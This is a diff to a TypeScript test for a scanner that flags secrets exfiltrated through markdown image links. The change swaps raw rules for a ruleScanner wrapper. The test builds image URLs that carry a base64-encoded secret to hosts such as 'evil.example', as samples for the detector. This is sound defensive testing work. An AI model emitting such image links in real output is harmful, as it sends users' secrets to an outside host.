@@ -1,5 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { rulesFor } from "../../../../test/guard/rules-for.ts";
+import { ruleScanner } from "../rule-scanner.ts";
 import { scanText } from "../scan-text.ts";
 import { scanRules } from "./all-rules.ts";
 
@@ -64,7 +65,7 @@ it("is let pass to domains that are allowed", () => {
   const rules = scanRules({ allowedDomains: ["charts.example", "*.corp.example"] });
   const isFound = (host: string): boolean => {
     const text = `![x](https://${host}/?q=${base64(SECRET)})`;
-    return scanText(text, rules, "result").findings.some(({ finding }) => finding.rule === RULE);
+    return scanText(text, [ruleScanner(rules)], "result").findings.some(({ finding }) => finding.rule === RULE);
   };
   expect(["charts.example", "img.corp.example", "evil.example", "charts.example.evil.example"].map(isFound)).toEqual([
     false,
